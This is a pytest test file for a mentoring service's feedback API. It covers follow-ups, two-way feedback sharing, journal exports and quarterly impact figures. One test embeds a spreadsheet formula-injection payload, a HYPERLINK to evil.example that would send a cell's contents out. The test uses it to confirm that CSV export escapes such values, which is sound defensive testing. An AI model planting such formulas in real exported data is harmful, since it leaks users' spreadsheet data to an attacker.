"""Follow-ups on applied advice, feedback both ways, the journal and impact through the API."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from feedback.models import SessionRecord
from feedback.timers import follow_up_timer
from mentornet_common.contracts import (
    AskClosed,
    AskCreated,
    FeedbackSubmitted,
    FollowUpRecorded,
    MatchProposed,
    UserErased,
    model_for,
)
from mentornet_common.envelope import Envelope
from mentornet_common.kafka import ensure_topics
from mentornet_common.timers import TimerLoop
from mentornet_devkit.testing import (
    deliver,
    full_scans,
    header,
    outbox_events,
    query_plans,
    read_all,
    redeliver,
)

from .conftest import MENTEE, MENTOR, FeedbackService

QUESTION = "How do I push back on a 40% price rise at renewal?"


async def offered(feedback: FeedbackService, session_id: str) -> None:
    """The offer behind the session: its text reaches the two participants' orgs for their journals."""
    await deliver(
        feedback.worker,
        MatchProposed(
            proposal_id="prp_1",
            ask_id=f"ask_{session_id}",
            mentee_id=MENTEE[0],
            mentee_org_id=MENTEE[1],
            mentor_id=MENTOR[0],
            mentor_org_id=MENTOR[1],
            score=0.8,
            reasons=[],
            question=QUESTION,
            background="",
            success_criteria="A plan I can use next week.",
            skills=["negotiation"],
            duration_minutes=30,
            proposed_at=datetime.now(UTC) - timedelta(hours=1),
            reverse_mentoring=True,
        ),
        MENTEE[1],
    )


async def published(feedback: FeedbackService, org_id: str, ce_type: str) -> list[dict[str, Any]]:
    return [p for t, p in await outbox_events(feedback.runtime, org_id) if t == ce_type]


async def mirror(feedback: FeedbackService, org_id: str, ce_type: str) -> None:
    """Deliver the newest event of a type a store wrote back to the handlers, as the broker would."""
    payload = (await published(feedback, org_id, ce_type))[-1]
    await redeliver(feedback.worker, Envelope.new(model_for(ce_type).model_validate(payload), org_id))


def follow_up_body(**overrides: Any) -> dict[str, Any]:
    return {
        "session_id": "ses_1",
        "what_i_did": "Asked for a 3-year deal at +8%.",
        "resolved": "yes",
        **overrides,
    }


# follow-ups ---------------------------------------------------------------------------------------------


async def test_the_mentee_records_a_follow_up_once_after_the_session(feedback: FeedbackService) -> None:
    await feedback.scheduled("ses_1")
    early = await feedback.http.post(
        "/v1/follow-ups", json=follow_up_body(), headers=feedback.as_user(MENTEE)
    )
    assert early.status_code == 409
    await feedback.completed("ses_1")
    by_mentor = await feedback.http.post(
        "/v1/follow-ups", json=follow_up_body(), headers=feedback.as_user(MENTOR)
    )
    assert by_mentor.status_code == 403
    stranger = await feedback.http.post(
        "/v1/follow-ups", json=follow_up_body(), headers=feedback.as_user(("usr_x", MENTEE[1]))
    )
    assert stranger.status_code == 404
    bad = await feedback.http.post(
        "/v1/follow-ups",
        json=follow_up_body(resolved="maybe", what_i_did=""),
        headers=feedback.as_user(MENTEE),
    )
    assert bad.status_code == 422 and {e["field"] for e in bad.json()["errors"]} == {
        "body.resolved",
        "body.what_i_did",
    }
    first = await feedback.http.post(
        "/v1/follow-ups", json=follow_up_body(), headers=feedback.as_user(MENTEE)
    )
    assert first.status_code == 201 and first.json()["shared_with_mentor"] is False
    again = await feedback.http.post(
        "/v1/follow-ups", json=follow_up_body(), headers=feedback.as_user(MENTEE)
    )
    assert again.status_code == 409
    (event,) = await published(feedback, MENTEE[1], "mentornet.follow-up-recorded.v1")
    assert event["resolved"] == "yes" and event["what_i_did"] is None  # not shared: the text stays home


async def test_the_mentor_sees_what_came_of_their_advice_only_when_shared(feedback: FeedbackService) -> None:
    for sid, share in (("ses_1", True), ("ses_2", False)):
        await feedback.completed(sid)
        body = follow_up_body(session_id=sid, share_with_mentor=share, what_i_did=f"did {sid}")
        assert (
            await feedback.http.post("/v1/follow-ups", json=body, headers=feedback.as_user(MENTEE))
        ).status_code == 201
        await mirror(feedback, MENTEE[1], "mentornet.follow-up-recorded.v1")
    mentor_view = (await feedback.http.get("/v1/follow-ups", headers=feedback.as_user(MENTOR))).json()[
        "items"
    ]
    assert [(f["session_id"], f["role"], f["what_i_did"]) for f in mentor_view] == [
        ("ses_1", "mentor", "did ses_1")
    ]
    mentee_view = (await feedback.http.get("/v1/follow-ups", headers=feedback.as_user(MENTEE))).json()[
        "items"
    ]
    assert {f["session_id"] for f in mentee_view} == {"ses_1", "ses_2"}


async def test_a_follow_up_comes_due_days_after_completion_once(feedback: FeedbackService) -> None:
    await feedback.completed("ses_1")
    await feedback.completed("ses_2")
    async with feedback.runtime.stores.session(MENTEE[1]) as db:
        completed_at = (await db.get(SessionRecord, "ses_1")).completed_at  # type: ignore[union-attr]
    body = follow_up_body(session_id="ses_2")
    assert (
        await feedback.http.post("/v1/follow-ups", json=body, headers=feedback.as_user(MENTEE))
    ).status_code == 201
    await mirror(feedback, MENTEE[1], "mentornet.follow-up-recorded.v1")
    after = timedelta(days=14)
    timers = TimerLoop(feedback.runtime, [follow_up_timer(after)], 60)
    assert completed_at is not None
    assert await timers.tick(completed_at + timedelta(days=13)) == 0
    assert await timers.tick(completed_at + timedelta(days=14, minutes=1)) == 2  # ses_2 closes silently
    assert await timers.tick(completed_at + timedelta(days=20)) == 0
    due = await published(feedback, MENTEE[1], "mentornet.follow-up-due.v1")
    assert [d["session_id"] for d in due] == ["ses_1"]


async def test_the_follow_up_timer_runs_against_the_real_broker(feedback: FeedbackService) -> None:
    settings = feedback.runtime.settings
    await ensure_topics(settings, partitions=1)
    await feedback.completed("ses_1")
    timers = TimerLoop(feedback.runtime, [follow_up_timer(timedelta(0))], 0.2)
    await timers.start()
    try:
        (record,) = await read_all(settings.kafka_bootstrap_servers, settings.topic("mentornet.feedback"), 1)
        assert header(record, "ce_type") == "mentornet.follow-up-due.v1"
        assert header(record, "ce_tenantid") == MENTEE[1]
        assert json.loads(record.value)["session_id"] == "ses_1"
    finally:
        await timers.stop()


# feedback both ways -------------------------------------------------------------------------------------


async def test_each_side_chooses_what_the_other_sees(feedback: FeedbackService) -> None:
    await feedback.completed("ses_1")
    mentee = await feedback.give(
        MENTEE,
        "ses_1",
        learned="anchor on total cost",
        comment="private note",
        share_with_other=["rating", "learned"],
    )
    assert mentee.status_code == 201
    not_a_mentor = await feedback.give(MENTEE, "ses_1", preparation=3)
    assert not_a_mentor.status_code == 409  # already given; a mentee's preparation is refused below anyway
    mentor = await feedback.give(
        MENTOR, "ses_1", rating=4, resolved="partly", preparation=2, comment="come with numbers next time",
        share_with_other=["preparation", "comment"],
    )  # fmt: skip
    assert mentor.status_code == 201
    for org in (MENTEE[1], MENTOR[1]):
        for payload in await published(feedback, org, FeedbackSubmitted.ce_type()):
            await redeliver(feedback.worker, Envelope.new(FeedbackSubmitted.model_validate(payload), org))
    events = json.dumps(await published(feedback, MENTEE[1], FeedbackSubmitted.ce_type()))
    assert "private note" not in events and "anchor on total cost" in events

    to_mentor = (await feedback.http.get("/v1/feedback/received", headers=feedback.as_user(MENTOR))).json()[
        "items"
    ]
    assert [r["shared"] for r in to_mentor] == [{"rating": 5, "learned": "anchor on total cost"}]
    to_mentee = (await feedback.http.get("/v1/feedback/received", headers=feedback.as_user(MENTEE))).json()[
        "items"
    ]
    assert [r["shared"] for r in to_mentee] == [{"preparation": 2, "comment": "come with numbers next time"}]


async def test_only_the_mentor_rates_the_preparation(feedback: FeedbackService) -> None:
    await feedback.completed("ses_1")
    response = await feedback.give(MENTEE, "ses_1", preparation=4)
    assert response.status_code == 422 and "body.preparation" in response.text
    unknown = await feedback.give(MENTEE, "ses_1", share_with_other=["email"])
    assert unknown.status_code == 422 and "body.share_with_other.0" in unknown.text


# the journal --------------------------------------------------------------------------------------------


async def test_the_journal_tells_a_members_history_and_exports_it(feedback: FeedbackService) -> None:
    now = datetime.now(UTC)
    lonely = AskCreated(
        ask_id="ask_lonely", mentee_id=MENTEE[0], mentee_org_id=MENTEE[1], skills=["cobol"],
        duration_minutes=30, scope="consortium", created_at=now - timedelta(days=3),
    )  # fmt: skip
    await deliver(feedback.worker, lonely, MENTEE[1])
    closed = AskClosed(
        ask_id="ask_lonely", mentee_id=MENTEE[0], mentee_org_id=MENTEE[1], status="expired",
        reason="no mentor fits this ask", closed_at=now - timedelta(days=2),
    )  # fmt: skip
    await deliver(feedback.worker, closed, MENTEE[1])
    await offered(feedback, "ses_1")
    await feedback.completed("ses_1")
    await feedback.give(MENTEE, "ses_1", learned="Anchor on total cost")
    body = follow_up_body(share_with_mentor=True)
    assert (
        await feedback.http.post("/v1/follow-ups", json=body, headers=feedback.as_user(MENTEE))
    ).status_code == 201
    await mirror(feedback, MENTEE[1], FollowUpRecorded.ce_type())

    mine = (await feedback.http.get("/v1/journal", headers=feedback.as_user(MENTEE))).json()
    session, ask = mine["entries"]
    assert (session["kind"], session["role"], session["status"]) == ("session", "mentee", "completed")
    assert session["question"] == QUESTION and session["success_criteria"] == "A plan I can use next week."
    assert session["learned"] == "Anchor on total cost" and session["follow_up_resolved"] == "yes"
    assert (ask["kind"], ask["skills"], ask["status"], ask["status_reason"]) == (
        "ask", ["cobol"], "expired", "no mentor fits this ask",
    )  # fmt: skip

    follow_ups = (await feedback.http.get("/v1/follow-ups", headers=feedback.as_user(MENTOR))).json()["items"]
    assert [f["success_criteria"] for f in follow_ups] == ["A plan I can use next week."]  # judged against it
    mentors = (await feedback.http.get("/v1/journal", headers=feedback.as_user(MENTOR))).json()["entries"]
    assert [(e["role"], e["question"], e["follow_up"]) for e in mentors] == [
        ("mentor", QUESTION, "Asked for a 3-year deal at +8%.")
    ]

    exported = await feedback.http.get("/v1/journal/export?format=csv", headers=feedback.as_user(MENTEE))
    assert exported.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert [r["kind"] for r in rows] == ["session", "ask"] and rows[0]["question"] == QUESTION
    markdown = await feedback.http.get("/v1/journal/export?format=markdown", headers=feedback.as_user(MENTEE))
    assert markdown.headers["content-type"].startswith("text/markdown")
    assert f"— {QUESTION}" in markdown.text and "What I learned: Anchor on total cost" in markdown.text
    other = (await feedback.http.get("/v1/journal", headers=feedback.as_user(("usr_x", MENTEE[1])))).json()
    assert other["entries"] == []


# impact through the API ---------------------------------------------------------------------------------


async def test_impact_by_quarter_with_its_weekly_series_and_csv(feedback: FeedbackService) -> None:
    await offered(feedback, "ses_1")
    await feedback.completed("ses_1")
    admin = feedback.as_user(("usr_admin", MENTEE[1]), "org_admin")
    figures = (await feedback.http.get("/v1/impact", headers=admin)).json()
    assert figures["sessions_completed"] == 1 and figures["reverse_mentoring_share"] == 1.0
    assert figures["weekly"] and figures["reciprocity"] == [
        {"org_id": MENTEE[1], "sessions_given": 0, "sessions_received": 1, "balance": -1}
    ]
    past = (await feedback.http.get("/v1/impact?quarter=2020-Q1", headers=admin)).json()
    assert past["quarter"] == "2020-Q1" and past["sessions_completed"] == 0
    wrong = await feedback.http.get("/v1/impact?quarter=2026-Q7", headers=admin)
    assert wrong.status_code == 422 and "query.quarter" in wrong.text
    exported = await feedback.http.get("/v1/impact/export", headers=admin)
    assert exported.headers["content-type"].startswith("text/csv")
    assert "sessions_completed,1" in exported.text
    member = await feedback.http.get("/v1/impact/export", headers=feedback.as_user(MENTEE))
    assert member.status_code == 403


async def test_impact_counts_a_session_in_the_quarter_it_ended_even_without_an_end_recorded(
    feedback: FeedbackService,
) -> None:
    """The figures read only their quarter's rows: a session completed in an earlier quarter is there and
    not here, and one completed before the store recorded ends (migration 0002) still counts."""
    for session_id in ("ses_1", "ses_2", "ses_3"):
        await feedback.completed(session_id)
    long_ago = datetime(2020, 2, 3, 10, tzinfo=UTC)
    async with feedback.runtime.unit_of_work(MENTEE[1]) as uow:
        older = await uow.session.get(SessionRecord, "ses_2")
        unended = await uow.session.get(SessionRecord, "ses_3")
        assert older is not None and unended is not None
        older.completed_at = older.ended_at = long_ago
        unended.ended_at = None
        uow.session.add_all([older, unended])
        await uow.commit()
    admin = feedback.as_user(("usr_admin", MENTEE[1]), "org_admin")
    now = (await feedback.http.get("/v1/impact", headers=admin)).json()
    then = (await feedback.http.get("/v1/impact?quarter=2020-Q1", headers=admin)).json()
    assert (now["sessions_completed"], then["sessions_completed"]) == (2, 1)
    assert (now["completion_rate"], then["completion_rate"]) == (1.0, 1.0)


async def test_the_journal_is_paginated_and_the_export_is_whole(feedback: FeedbackService) -> None:
    now = datetime.now(UTC)
    for n in range(3):
        ask = AskCreated(
            ask_id=f"ask_{n}", mentee_id=MENTEE[0], mentee_org_id=MENTEE[1], skills=[f"s{n}"],
            duration_minutes=30, scope="consortium", created_at=now - timedelta(days=n),
        )  # fmt: skip
        await deliver(feedback.worker, ask, MENTEE[1])
    first = (await feedback.http.get("/v1/journal?limit=2", headers=feedback.as_user(MENTEE))).json()
    assert [e["ask_id"] for e in first["entries"]] == ["ask_0", "ask_1"] and first["next_offset"] == 2
    rest = (await feedback.http.get("/v1/journal?limit=2&offset=2", headers=feedback.as_user(MENTEE))).json()
    assert [e["ask_id"] for e in rest["entries"]] == ["ask_2"] and rest["next_offset"] is None
    too_many = await feedback.http.get("/v1/journal?limit=201", headers=feedback.as_user(MENTEE))
    assert too_many.status_code == 422 and "query.limit" in too_many.text
    exported = await feedback.http.get("/v1/journal/export?format=csv", headers=feedback.as_user(MENTEE))
    assert len(list(csv.DictReader(io.StringIO(exported.text)))) == 3


def test_a_question_a_spreadsheet_would_run_is_exported_as_text() -> None:
    """A question beginning with =HYPERLINK(…) landed unescaped in the mentor's journal CSV."""
    from datetime import UTC, datetime

    from feedback.journal import JournalEntry, as_csv

    entry = JournalEntry(
        kind="session", at=datetime(2026, 11, 2, tzinfo=UTC), role="mentor", ask_id="ask_1",
        question='=HYPERLINK("https://evil.example/?d="&A1,"Open")', learned="@SUM(1+1)", status="completed",
        my_rating=4,
    )  # fmt: skip
    (row,) = list(csv.DictReader(io.StringIO(as_csv([entry]))))
    assert row["question"] == '\'=HYPERLINK("https://evil.example/?d="&A1,"Open")'
    assert row["learned"] == "'@SUM(1+1)" and row["my_rating"] == "4"


async def test_a_proposal_handled_after_its_session_still_marks_the_session_reverse_mentoring(
    feedback: FeedbackService,
) -> None:
    """The two arrive on different topics, in either order: the proposal's reverse mentoring reaches a
    session already recorded, in every store that keeps it."""
    await feedback.scheduled("ses_1")
    for org in (MENTEE[1], MENTOR[1]):
        async with feedback.runtime.stores.session(org) as db:
            assert (await db.get(SessionRecord, "ses_1")).reverse_mentoring is False  # type: ignore[union-attr]
    await offered(feedback, "ses_1")
    for org in (MENTEE[1], MENTOR[1]):
        async with feedback.runtime.stores.session(org) as db:
            assert (await db.get(SessionRecord, "ses_1")).reverse_mentoring is True  # type: ignore[union-attr]


# what grows with every session is read through an index ---------------------------------------------------


@pytest.mark.parametrize("store_backend", ["sqlite"], indirect=True)  # SQLite's EXPLAIN QUERY PLAN
async def test_what_each_proposal_request_timer_and_erasure_asks_goes_through_an_index(
    feedback: FeedbackService,
) -> None:
    """Every proposal marked its session by reading every session the store ever recorded; the follow-up
    timer did the same in every store every few seconds, and a person's journal, their feedback and their
    erasure read the session and feedback tables whole."""
    await feedback.completed("ses_1")
    growing = ("session_record", "feedback", "follow_up_fact", "received_feedback", "shared_follow_up")
    with full_scans(*growing) as scans, query_plans() as plans:
        await offered(feedback, "ses_1")
        assert (await feedback.give(MENTEE, "ses_1")).status_code == 201
        for path in ("/v1/feedback", "/v1/journal"):
            assert (await feedback.http.get(path, headers=feedback.as_user(MENTEE))).status_code == 200
        assert await TimerLoop(feedback.runtime, [follow_up_timer(timedelta(0))], 60).tick() == 1
        erased = UserErased(user_id=MENTEE[0], org_id=MENTEE[1], erased_at=datetime.now(UTC))
        await deliver(feedback.worker, erased, MENTEE[1])
    assert scans == []
    # In every store, the mentor's org's and the consortium's too, whose copies are never marked announced.
    looks = [
        lines for statement, lines in plans if "session_record.follow_up_due_sent_at IS NULL" in statement
    ]
    assert len(looks) >= 3 and all("mentee_org_id=?" in " ".join(lines) for lines in looks), looks


@pytest.mark.parametrize("store_backend", ["sqlite"], indirect=True)  # SQLite's EXPLAIN QUERY PLAN
async def test_the_impact_figures_read_their_quarter_through_indexes(feedback: FeedbackService) -> None:
    """The impact figures read every fact a store ever kept (the consortium's: every org's, for years) to
    keep one quarter's in Python, for each request of an org admin or an operator."""
    await offered(feedback, "ses_1")
    await feedback.completed("ses_1")
    assert (await feedback.give(MENTEE, "ses_1")).status_code == 201
    admin = feedback.as_user(("usr_admin", MENTEE[1]), "org_admin")
    operator = feedback.tokens.headers("usr_ops", None, ["operator"])
    with full_scans("ask_fact", "session_record", "feedback_fact", "follow_up_fact") as scans:
        for headers in (admin, operator):
            for path in ("/v1/impact", "/v1/impact?quarter=2020-Q1", "/v1/impact/export"):
                assert (await feedback.http.get(path, headers=headers)).status_code == 200
    assert scans == []
